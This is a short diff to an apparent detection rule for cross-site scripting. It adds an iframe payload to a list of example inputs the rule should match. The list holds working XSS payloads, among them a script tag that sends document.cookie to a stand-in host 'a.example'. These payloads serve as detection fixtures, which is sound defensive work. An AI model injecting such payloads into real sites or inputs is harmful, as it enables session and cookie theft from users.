@@ -38,6 +38,7 @@ export default defineRule({
     /\b(?:explain|what (?:is|are|does)|semantics|prevents?|prevented|preventing|block(?:s|ed)?|reject(?:s|ed)?|detects?|escap(?:e|es|ed|ing)|sanitiz\w{0,4}|protects?|vulnerab\w{0,8}|such as|e\.g|for example|attempts?|disallow\w{0,3}|denied|is (?:the|an|a)|lives at|why|logs?|attack)\b/,
   ],
   match: [
+    '<iframe src="javascript:alert(document.cookie)"></iframe>',
     '<img src=x onerror=alert(1)>',
     '<script>fetch("//a.example?c="+document.cookie)</script>',
     '<a href="javascript:eval(name)">open</a>',
